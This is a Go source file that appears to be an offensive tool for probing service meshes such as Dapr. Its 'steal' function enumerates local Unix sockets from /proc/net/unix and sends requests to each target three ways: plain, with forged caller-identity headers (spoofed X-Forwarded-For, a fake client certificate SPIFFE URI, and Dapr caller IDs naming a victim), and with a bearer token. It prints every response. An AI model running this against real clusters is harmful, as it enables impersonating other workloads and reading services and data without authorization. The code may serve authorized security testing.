package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// claimed are headers by which a careless server might be told who calls, with the victim's ADDRESS and NAME.
var claimed = map[string]string{
	"X-Forwarded-For": "ADDRESS", "X-Real-Ip": "ADDRESS", "Forwarded": "for=ADDRESS", "X-Forwarded-Host": "NAME",
	"X-Forwarded-Client-Cert": "URI=spiffe://cluster.local/ns/attacked/sa/app",
	"Dapr-App-Id":             "NAME", "Dapr-Caller-App-Id": "NAME", "Dapr-Caller-Namespace": "attacked",
}

// steal tries each target as itself, with the claims, and with a token, and prints a line for each attempt. A target is
// an URL without path, or unix: and the path of a socket; @ begins an abstract name, and * is as in a shell.
func steal(path, victim, address, token string, targets []string) error {
	for _, target := range targets {
		sockets := []string{""}
		url := target
		if pattern, ok := strings.CutPrefix(target, "unix:"); ok {
			url, sockets = "http://localhost", []string{pattern}
			if found, err := filepath.Glob(pattern); err == nil && len(found) > 0 {
				sockets = found
			}
		}
		for _, socket := range sockets {
			for _, attempt := range []string{"plain", "claims", "token"} {
				fmt.Printf("%s %s %s: %s\n", target, socket, attempt, try(url+path, socket, attempt, victim, address, token))
			}
		}
	}
	return nil
}

// try makes one attempt and returns the status with the body, or why there is none.
func try(url, socket, attempt, victim, address, token string) string {
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
		if socket != "" {
			return dialSocket(ctx, socket)
		}
		return new(net.Dialer).DialContext(ctx, network, addr)
	}}}
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return err.Error()
	}
	switch attempt {
	case "claims":
		request.Host = victim
		for name, value := range claimed {
			request.Header.Set(name, strings.NewReplacer("ADDRESS", address, "NAME", victim).Replace(value))
		}
	case "token":
		request.Header.Set("dapr-api-token", token)
		request.Header.Set("Authorization", "Bearer "+token)
	}
	response, err := client.Do(request)
	if err != nil {
		return err.Error()
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	if err != nil {
		return err.Error()
	}
	return fmt.Sprintf("%d %s", response.StatusCode, bytes.TrimSpace(body))
}

// dialSocket connects to a socket whose path may be longer than an address has room for.
func dialSocket(ctx context.Context, path string) (net.Conn, error) {
	if !strings.HasPrefix(path, "@") {
		dir, err := os.Open(filepath.Dir(path))
		if err != nil {
			return nil, err
		}
		defer dir.Close()
		path = fmt.Sprintf("/proc/self/fd/%d/%s", dir.Fd(), filepath.Base(path))
	}
	return new(net.Dialer).DialContext(ctx, "unix", path)
}

// namedSockets are the names of the Unix sockets that the network namespace shows, those of others too.
func namedSockets() (targets []string, err error) {
	table, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		return nil, err
	}
	seen := map[string]bool{}
	for line := range strings.Lines(string(table)) {
		fields := strings.Fields(line)
		if len(fields) != 8 || seen[fields[7]] || !strings.ContainsAny(fields[7][:1], "@/") {
			continue
		}
		seen[fields[7]] = true
		targets = append(targets, "unix:"+fields[7])
	}
	return targets, nil
}
